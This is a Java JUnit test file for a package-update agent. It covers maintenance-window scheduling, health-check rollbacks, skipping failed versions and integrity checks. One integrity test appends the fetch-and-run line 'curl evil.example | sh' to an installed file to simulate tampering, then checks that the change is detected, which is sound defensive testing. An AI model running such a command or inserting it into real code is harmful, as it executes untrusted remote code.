package org.veripack.agent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.prometheus.metrics.model.snapshots.CounterSnapshot;
import io.prometheus.metrics.model.snapshots.GaugeSnapshot;
import io.prometheus.metrics.model.snapshots.MetricSnapshot;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.veripack.core.RevocationSource;

/**
 * The agent on a real node and a real TUF repository directory, driven by {@link Agent#tick()} with a clock the test
 * moves: exact schedules (interval, jitter, maintenance windows) without sleeping; installs, health checks marking
 * good or rolling back, a failed version not retried, a newer one installed; the integrity check finding a modified
 * slot and running the stop command.
 */
class AgentTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path tmp;

    private final List<String> log = new ArrayList<>();
    private final AgentMetrics metrics = new AgentMetrics();

    /** Jitter from a generator that always answers {@code fixedMillis} (bounded by the jitter asked for). */
    private static RandomGenerator fixed(long fixedMillis) {
        return new RandomGenerator() {
            @Override public long nextLong() { return fixedMillis; }
            @Override public long nextLong(long bound) { return Math.min(fixedMillis, bound - 1); }
        };
    }

    private Agent agent(AgentFixture f, AgentConfig c, AgentFixture.MutableClock clock, RandomGenerator random) throws IOException {
        return new Agent(f.node, c, clock, random, clock::set, metrics, log::add, RevocationSource.offline());
    }

    @Test
    void pollsEveryIntervalPlusJitterOnlyInsideTheWindowsInTheNodesTimeZone() throws Exception {
        AgentFixture f = new AgentFixture(tmp);
        f.publish("acme-mme", "1.0", "exit 0");
        // Berlin is UTC+1 in January: the window Mon-Fri 02:00-04:00 local is 01:00-03:00 UTC
        AgentConfig c = f.config("interval: 1h\njitter: 10m\ntimeZone: Europe/Berlin\n"
                + "maintenanceWindows: [{days: Mon-Fri, hours: '02:00-04:00'}]\n");
        Instant saturday = Instant.parse("2026-01-03T10:00:00Z");
        AgentFixture.MutableClock clock = new AgentFixture.MutableClock(saturday);
        Agent a = agent(f, c, clock, fixed(90_000));
        assertEquals(saturday.plusSeconds(90), a.nextPoll(), "first poll after the jitter");
        clock.set(a.nextPoll());
        a.tick();
        assertEquals(Instant.parse("2026-01-05T01:00:00Z").plusSeconds(90), a.nextPoll(), "Monday 02:00 Berlin plus the jitter");
        assertFalse(audit(f).stream().anyMatch(e -> e.get("event").asText().equals("update.refreshed")), "no poll outside the window");

        clock.set(a.nextPoll());
        a.tick();
        assertEquals("1.0", active(f));
        assertEquals(clock.instant().plus(Duration.ofHours(1)).plusSeconds(90), a.nextPoll(), "interval plus jitter after a poll");
        assertEquals(1.0, counter("veripack_updates_total", "installed"));

        // 03:03 Berlin is still inside; 04:04:30 Berlin (03:04:30 UTC) is not: next Tuesday 02:00 Berlin
        clock.set(a.nextPoll());
        a.tick();
        assertEquals(1.0, counter("veripack_updates_total", "up_to_date"));
        clock.set(a.nextPoll());
        a.tick();
        assertEquals(Instant.parse("2026-01-06T01:00:00Z").plusSeconds(90), a.nextPoll());
        assertEquals(1.0, counter("veripack_updates_total", "up_to_date"), "no poll at 04:01 Berlin");
    }

    @Test
    void aFailedHealthCheckRollsBackAndThatVersionIsNotRetriedUntilANewerOneAppears() throws Exception {
        AgentFixture f = new AgentFixture(tmp);
        f.publish("acme-mme", "1.0", "exit 0");
        AgentFixture.MutableClock clock = new AgentFixture.MutableClock(AgentFixture.NOW);
        Agent a = agent(f, f.config("interval: 15m\n"), clock, fixed(0));
        a.tick();
        assertEquals("1.0", active(f));
        assertEquals("ACCEPTED", last(f, "agent.health").get("verdict").asText(), "1.0 marked good");

        // 2.0's program fails: health check REJECTED, automatic rollback to 1.0, audited
        f.publish("acme-mme", "2.0", "echo mmed not answering; exit 1");
        clock.advance(Duration.ofMinutes(15));
        a.tick();
        assertEquals("1.0", active(f), "rolled back");
        JsonNode health = last(f, "agent.health");
        assertEquals("REJECTED", health.get("verdict").asText());
        assertEquals("2.0", health.get("version").asText());
        assertTrue(health.get("detail").asText().contains("exit 1: mmed not answering"), health.toString());
        assertEquals("ACCEPTED", last(f, "rollback").get("verdict").asText());
        assertEquals(1.0, counter("veripack_rollbacks_total", null));
        assertEquals(1.0, counter("veripack_updates_total", "health_failed"));

        // the next polls leave 2.0 alone
        int installsBefore = count(f, "install.accepted");
        clock.advance(Duration.ofMinutes(15));
        a.tick();
        assertEquals("1.0", active(f));
        assertEquals(installsBefore, count(f, "install.accepted"), "2.0 not downloaded and installed again");
        assertEquals(1.0, counter("veripack_updates_total", "skipped_failed_version"));
        assertTrue(log.get(log.size() - 1).startsWith("agent: poll skipped_failed_version 2.0 "), "names the skipped version: " + log);
        assertEquals(1.0, gauge("veripack_versions_behind"));

        // 2.1 hangs: the time-out fails it too
        f.publish("acme-mme", "2.1", "sleep 30");
        clock.advance(Duration.ofMinutes(15));
        a.tick();
        assertEquals("1.0", active(f));
        assertTrue(last(f, "agent.health").get("detail").asText().contains("timed out after 2s"), last(f, "agent.health").toString());

        // a newer, working version is installed and marked good
        f.publish("acme-mme", "2.2", "exit 0");
        clock.advance(Duration.ofMinutes(15));
        a.tick();
        assertEquals("2.2", active(f));
        assertEquals("ACCEPTED", last(f, "agent.health").get("verdict").asText());
        assertEquals(0.0, gauge("veripack_versions_behind"));
        assertEquals(2.0, counter("veripack_rollbacks_total", null));
    }

    @Test
    void theIntegrityCheckFindsAModifiedSlotAndRunsTheStopCommand() throws Exception {
        AgentFixture f = new AgentFixture(tmp);
        f.publish("acme-mme", "1.0", "exit 0");
        Path stopped = tmp.resolve("stopped");
        AgentFixture.MutableClock clock = new AgentFixture.MutableClock(AgentFixture.NOW);
        Agent a = agent(f, f.config("integrityInterval: 1h\nonTamper: {action: stop, stopCommand: [/usr/bin/touch, " + stopped + "]}\n"),
                clock, fixed(0));
        a.tick();
        assertEquals("1.0", active(f));
        clock.advance(Duration.ofHours(1));
        a.tick();
        assertEquals(1.0, gauge("veripack_integrity_intact"));
        assertTrue(gauge("veripack_integrity_check_duration_seconds") > 0, "the check's wall time");
        assertFalse(Files.exists(stopped));

        Path prog = f.node.resolve("current/Files/bin/prog");
        prog.toFile().setWritable(true);
        Files.writeString(prog, "curl evil.example | sh\n", StandardCharsets.UTF_8, java.nio.file.StandardOpenOption.APPEND);
        clock.advance(Duration.ofMinutes(30));
        a.tick();
        assertEquals(1.0, gauge("veripack_integrity_intact"), "not due yet");
        a.requestIntegrityCheck(); // SIGHUP
        a.tick();
        JsonNode scan = last(f, "scan");
        assertEquals("REJECTED", scan.get("verdict").asText());
        assertTrue(scan.get("findings").toString().contains("INSTALLATION_TAMPERED"), scan.toString());
        assertEquals(0.0, gauge("veripack_integrity_intact"));
        assertEquals(1.0, counter("veripack_integrity_failures_total", null));
        assertTrue(Files.exists(stopped), "the stop command ran");
        String tamperLine = log.stream().filter(l -> l.contains("INSTALLATION_TAMPERED in")).findFirst().orElseThrow();
        assertEquals(1, tamperLine.split("Files/bin/prog", -1).length - 1, "each changed file once: " + tamperLine);
        assertEquals("ACCEPTED", last(f, "agent.tamper-action").get("verdict").asText());
        assertEquals(clock.instant().plus(Duration.ofHours(1)), a.nextIntegrityCheck());
    }

    @Test
    void aSlotActivatedButNotJudgedIsJudgedAtTheNextStart() throws Exception {
        AgentFixture f = new AgentFixture(tmp);
        f.publish("acme-mme", "1.0", "exit 0");
        AgentFixture.MutableClock clock = new AgentFixture.MutableClock(AgentFixture.NOW);
        agent(f, f.config(""), clock, fixed(0)).tick();
        f.publish("acme-mme", "2.0", "exit 3");
        // 2.0 activated without its health check (the agent killed in between, or installed by hand)
        org.veripack.node.Node.open(f.node, clock).install(tmp.resolve("acme-mme-2.0.csar"), RevocationSource.offline());
        assertEquals("2.0", active(f));
        Agent restarted = agent(f, f.config("interval: 1d\n"), clock, fixed(0));
        restarted.tick();
        assertEquals("1.0", active(f), "judged at start and rolled back");
        assertEquals("REJECTED", last(f, "agent.health").get("verdict").asText());
        assertTrue(AgentState.load(f.node).failed("acme-mme", "2.0"));
        int checks = count(f, "agent.health");
        clock.advance(Duration.ofHours(1));
        restarted.tick();
        assertEquals(checks, count(f, "agent.health"), "1.0 was judged good before: not checked again");
    }

    @Test
    void aPersonsInstallDuringTheHealthChecksDelayIsNotBlamedOnTheAgentsVersion() throws Exception {
        AgentFixture f = new AgentFixture(tmp);
        f.publish("acme-mme", "1.0", "exit 0");
        f.publish("acme-mme", "2.0", "exit 0");
        AgentFixture.MutableClock clock = new AgentFixture.MutableClock(AgentFixture.NOW);
        AgentConfig c = f.config("healthCheck: {command: [/bin/sh, -c, '\"$VERIPACK_ROOT/current/Files/bin/prog\"'], timeout: 2s, delay: 30s}\n");
        // while the agent waits for 2.0 to start, a person installs 3.0 by hand, whose program fails
        Agent a = new Agent(f.node, c, clock, fixed(0), t -> {
            clock.set(t);
            try {
                f.publish("acme-mme", "3.0", "exit 1");
                org.veripack.node.Node.open(f.node, clock).install(tmp.resolve("acme-mme-3.0.csar"), RevocationSource.offline());
            } catch (Exception e) {
                throw new AssertionError(e);
            }
        }, metrics, log::add, RevocationSource.offline());
        a.tick();
        assertEquals("3.0", active(f), "the person's install stands");
        assertFalse(audit(f).stream().anyMatch(e -> e.get("event").asText().equals("agent.health") && e.get("version").asText().equals("2.0")),
                "no verdict on 2.0, whose check would have probed 3.0");
        assertFalse(AgentState.load(f.node).failed("acme-mme", "2.0"), "2.0 not marked failed");
        assertEquals(1.0, counter("veripack_updates_total", "installed"));
        assertEquals(0.0, counter("veripack_rollbacks_total", null));
        assertTrue(log.stream().anyMatch(l -> l.contains("no longer active after the health check's delay")), log.toString());
    }

    private static String active(AgentFixture f) throws Exception {
        return org.veripack.node.Node.open(f.node, java.time.Clock.systemUTC()).status().active().orElseThrow().identity().version();
    }

    private static List<JsonNode> audit(AgentFixture f) throws IOException {
        List<JsonNode> out = new ArrayList<>();
        for (String l : Files.readAllLines(f.node.resolve("audit/events.jsonl"))) {
            out.add(JSON.readTree(l));
        }
        return out;
    }

    private static JsonNode last(AgentFixture f, String event) throws IOException {
        List<JsonNode> all = audit(f);
        for (int i = all.size() - 1; i >= 0; i--) {
            if (all.get(i).get("event").asText().equals(event)) {
                return all.get(i);
            }
        }
        throw new AssertionError("no " + event + " in the audit log");
    }

    private static int count(AgentFixture f, String event) throws IOException {
        return (int) audit(f).stream().filter(e -> e.get("event").asText().equals(event)).count();
    }

    private double counter(String name, String result) {
        for (MetricSnapshot m : metrics.registry().scrape()) {
            if (m instanceof CounterSnapshot c && (m.getMetadata().getPrometheusName() + "_total").equals(name)) {
                return c.getDataPoints().stream().filter(d -> result == null || result.equals(d.getLabels().get("result")))
                        .mapToDouble(CounterSnapshot.CounterDataPointSnapshot::getValue).sum();
            }
        }
        throw new AssertionError("no counter " + name);
    }

    private double gauge(String name) {
        for (MetricSnapshot m : metrics.registry().scrape()) {
            if (m instanceof GaugeSnapshot g && m.getMetadata().getPrometheusName().equals(name)) {
                return g.getDataPoints().get(0).getValue();
            }
        }
        throw new AssertionError("no gauge " + name);
    }
}
